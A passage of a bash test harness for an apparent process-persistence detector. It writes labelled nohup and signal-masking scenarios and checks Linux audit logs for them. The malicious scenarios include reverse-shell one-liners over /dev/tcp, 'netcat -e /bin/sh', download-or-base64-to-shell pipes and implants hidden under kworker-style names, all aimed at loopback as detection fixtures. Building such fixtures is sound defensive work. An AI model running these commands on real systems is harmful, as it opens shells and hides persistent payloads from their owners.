    # Debian's busybox is built without the nohup applet: the exec is recorded, then
    # busybox prints "nohup: applet not found" and the target never runs.
    busybox nohup true >/dev/null 2>&1 || bb_note=" (this busybox has no nohup applet: only the busybox exec is recorded)"
    {
        printf '%s\t%s\t%s\t%s\t%s\n' \
            01 malicious "seed test 1: nohup nc -lvp $NC_PORT -s 127.0.0.1 (background, killed after 1 s; nc binds and listens)" nc suspicious_net_tool,net_listener \
            02 malicious "seed test 2: chmod +x $DF; nohup $DF" "$DF" temp_dir_payload,payload_made_executable \
            03 signal "seed test 3: python3 -c 'import signal,time; signal.signal(signal.SIGHUP, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(1)'" - - \
            04 malicious "sh -c \"nohup $WD/x4.sh >/dev/null 2>&1 &\" (hex-encoded sh -c string; exactly one finding)" "$WD/x4.sh" temp_dir_payload,background_exec \
            04e malicious "sh -c \"echo <base64 of nohup $WD/x4e.sh >/dev/null 2>&1 &> | base64 -d | sh\" (exactly one finding)" "$WD/x4e.sh" temp_dir_payload,encoded_payload \
            04p malicious "python3 -c \"import os; os.system('nohup $WD/x4p.sh >/dev/null 2>&1 &')\" (exactly one finding)" "$WD/x4p.sh" temp_dir_payload,background_exec \
            05a malicious "nohup $WD/x5.sh <9000 x A> (argument split by the kernel: a2_len, a2[0..])" "$WD/x5.sh" temp_dir_payload \
            05b malicious "sh -c \": <9000 x A>; nohup $WD/netcat -e /bin/sh 127.0.0.1 $DEAD_PORT &\" (split hex sh -c string; netcat = copy of nc, fails at once)" "$WD/netcat" temp_dir_payload,suspicious_net_tool,background_exec \
            06 malicious "busybox nohup $WD/x6.sh$bb_note" "$WD/x6.sh" temp_dir_payload \
            07 malicious "env X=1 nohup $WD/x7.sh" "$WD/x7.sh" temp_dir_payload \
            08a malicious "setsid nohup $SHM 0.3 (copy of sleep in /dev/shm)" "$SHM" temp_dir_payload \
            08b malicious "timeout 5 nohup $WD/x8.sh" "$WD/x8.sh" temp_dir_payload \
            08c malicious "nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/$DEAD_PORT 0>&1' & (connection refused)" bash "reverse_shell|interactive_shell" \
            09 malicious "nohup $HID/kworker 1 (copy of sleep in a hidden dir)" "$HID/kworker" hidden_path,temp_dir_payload \
            10 admin "sh -c \"nohup $ADMIN_SCRIPT > $WD/backup.log 2>&1 &\" (at most low severity)" "$ADMIN_SCRIPT" - \
            11a benign "grep nohup $WD/notes.txt" - - \
            11b benign "python3 -c 'import signal; print(signal.SIGHUP)'" - - \
            11c benign "/bin/echo nohup is a command" - - \
            11d benign "sh -c 'echo nohup is a command'" - - \
            12a signal "perl -e '\$SIG{TERM}=\"IGNORE\"; sleep 1'" - - \
            12b signal "bash -c \"trap '' HUP INT TERM; sleep 1\"" - - \
            13a malicious "$INIT_SCRIPT start: the init script runs nohup $WD/support 30 & (UNC3886's localnet)" "$WD/support" init_script_parent,temp_dir_payload \
            13b malicious "$INIT_SCRIPT start again after its payload was killed" "$WD/support" init_script_parent,relaunched
        [[ -n $WEBUSER ]] && printf '%s\t%s\t%s\t%s\t%s\n' \
            14 malicious "runuser -u $WEBUSER -- sh -c \"nohup $WD/websvc 0.3 >/dev/null 2>&1 &\" (a web shell)" "$WD/websvc" web_service_parent,temp_dir_payload
        # Issue #14: wrappers, identity, places, pipelines, idioms, preparation.
        printf '%s\t%s\t%s\t%s\t%s\n' \
            k01 malicious "nohup nice -n 19 $WD/m01 0.2 (wrapper after nohup)" nice temp_dir_payload \
            k02 malicious "nohup stdbuf -oL timeout 5 $WD/m02 0.2 (two wrappers after nohup)" stdbuf temp_dir_payload \
            k03 malicious "setsid -f nohup $KSHM/m03 0.2 (/dev/shm)" "$KSHM/m03" temp_dir_payload \
            k04 malicious "flock /run/lock/sighunt-k04.lock nohup $KLOCK/m04 0.2 (/run/lock)" "$KLOCK/m04" temp_dir_payload \
            k05 malicious "echo 0.2 | xargs nohup $KVAR/m05 (xargs)" "$KVAR/m05" temp_dir_payload \
            k06 malicious "find $WD/m06 -maxdepth 0 -exec nohup {} 0.2 ;" "$WD/m06" temp_dir_payload \
            k07 malicious "script -qc \"nohup $WD/m07 0.2\" /dev/null" "$WD/m07" temp_dir_payload \
            k08 malicious "runuser -u nobody -- nohup $KLOCK/m08 0.2" "$KLOCK/m08" temp_dir_payload \
            k09 malicious "su -s /bin/sh nobody -c \"nohup $KVAR/m09 0.2 >/dev/null 2>&1 &\"" "$KVAR/m09" temp_dir_payload \
            k10 malicious "dash -c \"nohup $KSHM/m10 0.2 & wait\"" "$KSHM/m10" temp_dir_payload \
            k11 malicious "busybox sh -c \"nohup $KHID/kdevtmpfsi 0.2 & wait\" (hidden dir under ~/.cache)" "$KHID/kdevtmpfsi" hidden_path,temp_dir_payload \
            k12 malicious "bash -c \"exec -a '[kworker/0:2]' nohup $PROJ/k12.sh\" (nohup with a changed argv0)" "$PROJ/k12.sh" nohup_renamed \
            k13 malicious "$WD/.n $PROJ/k13.sh (a symlink to nohup)" "$PROJ/k13.sh" nohup_renamed \
            k14 malicious "cp /usr/bin/nohup $KVAR/hup; $KVAR/hup $PROJ/k14.sh (a copy of nohup)" "$PROJ/k14.sh" nohup_renamed \
            k15 malicious "curl -fsS file://…/s15.sh | nohup sh (download piped into a nohup'd shell)" sh download_tool \
            k16 malicious "echo … | base64 -d | nohup bash (decoder piped into a nohup'd shell)" bash encoded_payload \
            k17 malicious "nohup sh -c \"\$(curl -fsS file://…/s17.sh)\" (substitution)" sh download_tool \
            k18 malicious "nohup bash -c \"\$(echo … | base64 -d)\" (substitution)" bash encoded_payload \
            k19 masking "perl POSIX::sigaction(SIGTERM, POSIX::SigAction->new(\"IGNORE\")) then exec $WD/m19" "POSIX::SigAction" ignores_sigterm \
            k20 masking "python3 -c 'from signal import *; signal(SIGTERM, SIG_IGN); signal(SIGHUP, SIG_IGN)'" "from signal import" ignores_sigterm,ignores_sighup \
            k21 masking "node -e 'process.on(\"SIGTERM\", () => {}); …'" "process.on(\"SIGINT\"" ignores_sigterm \
            k22 masking "sh -c \"trap -- '' 1 15; exec $WD/m22 0.2\"" "1 15; exec" ignores_sigterm,ignores_sighup \
            k23 malicious "cp support $K23_IMPLANT; $KINIT start: nohup of an implant copied into a system dir (UNC3886)" "$K23_IMPLANT" init_script_parent,payload_written \
            k24 malicious "dd of=$KSHM/m24; chmod 755; nohup $KSHM/m24 0.2" "$KSHM/m24" temp_dir_payload,payload_written \
            k25 malicious "curl -o $K25_DROP file://…; chmod 755; nohup $K25_DROP 0.2 (download into a system dir)" "$K25_DROP" payload_downloaded,payload_made_executable \
            k26 malicious "nohup bash -c 'exec 5<>/dev/tcp/127.0.0.1/$DEAD_PORT; sh <&5 >&5' (connection refused)" bash reverse_shell \
            k27 malicious "timeout 1 nohup nc -lvp $K_NC_PORT -s 127.0.0.1" nc suspicious_net_tool \
            k28 malicious "nohup python3 $KSHM/.a.py (hidden script in /dev/shm)" python3 temp_dir_payload,hidden_path \
            k29 malicious "sh -c \"setsid nohup $KVAR/m29 0.2 >/dev/null 2>&1 &\" (one finding for the chain)" "$KVAR/m29" temp_dir_payload \
            k30 malicious "start-stop-daemon --start --background --exec /usr/bin/nohup -- $WD/m30 0.2" "$WD/m30" temp_dir_payload \
            k31 malicious "chroot / nohup $WD/m31 0.2" "$WD/m31" temp_dir_payload \
            k32 malicious "unshare -m nohup $KLOCK/m32 0.2" "$KLOCK/m32" temp_dir_payload \
            k33 malicious "nsenter -t 1 -m nohup $KVAR/m33 0.2" "$KVAR/m33" temp_dir_payload \
            k35 malicious "sh -c \"echo … > $KVAR/m35.sh; chmod +x; nohup $KVAR/m35.sh &\" (written by redirection)" "$KVAR/m35.sh" temp_dir_payload,payload_written \
            a01 admin "sh -c \"cd $PROJ && nohup ./a01.sh > a01.log 2>&1 &\"" ./a01.sh - \
            a02 admin "chmod +x $PROJ/a02.sh; nohup $PROJ/a02.sh (a developer's script)" "$PROJ/a02.sh" - \
            a03 admin "nohup /usr/bin/python3 -m http.server $K_HTTP_PORT --bind 127.0.0.1 (loopback dev server)" /usr/bin/python3 - \
            a04 admin "nohup cp -a $PROJ/data $PROJ/data.bak" cp - \
            a05 admin "$VINIT start: a vendor's init script nohups its packaged daemon (/bin/sleep)" /bin/sleep - \
            a06 admin "nohup $LOCAL_TOOL 0.2 (~/.local/bin)" "$LOCAL_TOOL" - \
            a07 admin "cp build $PROJ/bin/svc; nohup $PROJ/bin/svc 0.2" "$PROJ/bin/svc" - \
            a08 admin "timeout 5 nohup $PROJ/a08.sh" "$PROJ/a08.sh" - \
            a09 admin "flock -n /run/lock/sighunt-a09.lock nohup $PROJ/a09.sh" "$PROJ/a09.sh" - \
            a10 admin "curl -fsS file://…/a10.conf; nohup $PROJ/a10.sh (a download to stdout, then a launch)" "$PROJ/a10.sh" - \
            a11 admin "nohup /usr/bin/perl $PROJ/a11.pl" /usr/bin/perl - \
            a12 benign "grep -rl nohup /etc/init.d" - - \
            a13 benign "nohup --version" - - \
            a14 quiet "python3 -c 'import signal; signal.signal(signal.SIGTERM, signal.SIG_DFL)'" "signal.SIG_DFL" - \
            a15 quiet "bash -c \"trap 'rm -f …/lock' EXIT; sleep 0.2\"" "trap 'rm -f" - \
            a16 quiet "node -e 'process.on(\"SIGTERM\", () => { console.log(\"bye\"); process.exit(0) })'" "console.log(\"bye\")" - \
            a17 admin "nohup ionice -c3 /usr/bin/sleep 0.2" ionice - \
            a18 admin "setsid -f nohup $PROJ/a18.sh" "$PROJ/a18.sh" - \
            a19 admin "nohup dash -c \"cd $PROJ && ./a19.sh\"" dash - \
            a20 admin "env LANG=C nohup $PROJ/a20.sh" "$PROJ/a20.sh" -
        [[ -n $WEBUSER ]] && printf '%s\t%s\t%s\t%s\t%s\n' \
            k34 malicious "runuser -u $WEBUSER -- sh -c \"cd /; nohup /usr/bin/sleep 0.3 &\" (web account)" /usr/bin/sleep web_service_parent
    } >"$t" && chmod 644 "$t" && mv -f -- "$t" "$OUTDIR/scenarios.tsv" || die "cannot write scenarios.tsv"
}

# Decode every EXECVE event of a log and report, per scenario target, how many exec
# events mention it (a quick check that the kernel recorded each scenario).
check_log() {   # $1 = log file
    python3 - "$1" "$OUTDIR/scenarios.tsv" <<'PY'
import re, sys
from collections import OrderedDict
log, tsv = sys.argv[1], sys.argv[2]
events = OrderedDict()
serial_re = re.compile(r'msg=audit\(([0-9.]+:[0-9]+)\):')
for raw in open(log, 'rb'):
    line = raw.decode('latin-1').split('\x1d', 1)[0].rstrip('\n')
    m = serial_re.search(line)
    if not m or 'type=EXECVE' not in line:
        if m and 'type=SYSCALL' in line and 'syscall=59 ' in line:
            ev = events.setdefault(m.group(1), {'args': {}, 'ok': None})
            ev['ok'] = 'success=yes' in line
        continue
    ev = events.setdefault(m.group(1), {'args': {}, 'ok': None})
    for k, v in re.findall(r' (a\d+(?:\[\d+\])?|a\d+_len|argc)=(\S+)', line):
        if k == 'argc' or k.endswith('_len'):
            continue
        ev['args'].setdefault(k.split('[')[0], []).append(v)
def dec(parts):
    if len(parts) == 1 and parts[0].startswith('"'):
        return parts[0][1:-1]
    try:
        return bytes.fromhex(''.join(parts)).decode('utf-8', 'replace')
    except ValueError:
        return ''.join(parts)
argvs = []
for serial, ev in events.items():
    argv = [dec(ev['args'][k]) for k in sorted(ev['args'], key=lambda a: int(a[1:]))]
    argvs.append((argv, ev['ok']))
bad = 0
for row in open(tsv):
    cols = row.rstrip('\n').split('\t')
    sid, exp, target = cols[0], cols[1], cols[3]
    if target == '-':
        continue
    hits = [a for a, ok in argvs if any(target == x or (' ' + target + ' ') in (' ' + x + ' ') for x in a)]
    if not hits:
        bad += 1
    print(f"    {sid:4} {exp:9} {len(hits)} exec event(s) mention {target}")
sys.exit(1 if bad else 0)
PY
}

# --- main ----------------------------------------------------------------------------------
for fmt in "${FORMATS[@]}"; do
    capture "$fmt"
done
write_tsv
lost1=$(auditctl -s 2>/dev/null | awk '$1=="lost"{print $2}')
[[ ${lost1:-0} == "${LOST0:-0}" ]] || log "warning: the kernel lost $((lost1 - LOST0)) audit record(s) during the run"
for fmt in "${FORMATS[@]}"; do
    log "[$fmt] check of $OUTDIR/audit-$fmt.log:"
    check_log "$OUTDIR/audit-$fmt.log" >&2 || log "warning: [$fmt] some scenario targets are missing from the log"
done
outs=("$OUTDIR/scenarios.tsv")
for fmt in "${FORMATS[@]}"; do outs+=("$OUTDIR/audit-$fmt.log"); done
log "done: ${outs[*]}"
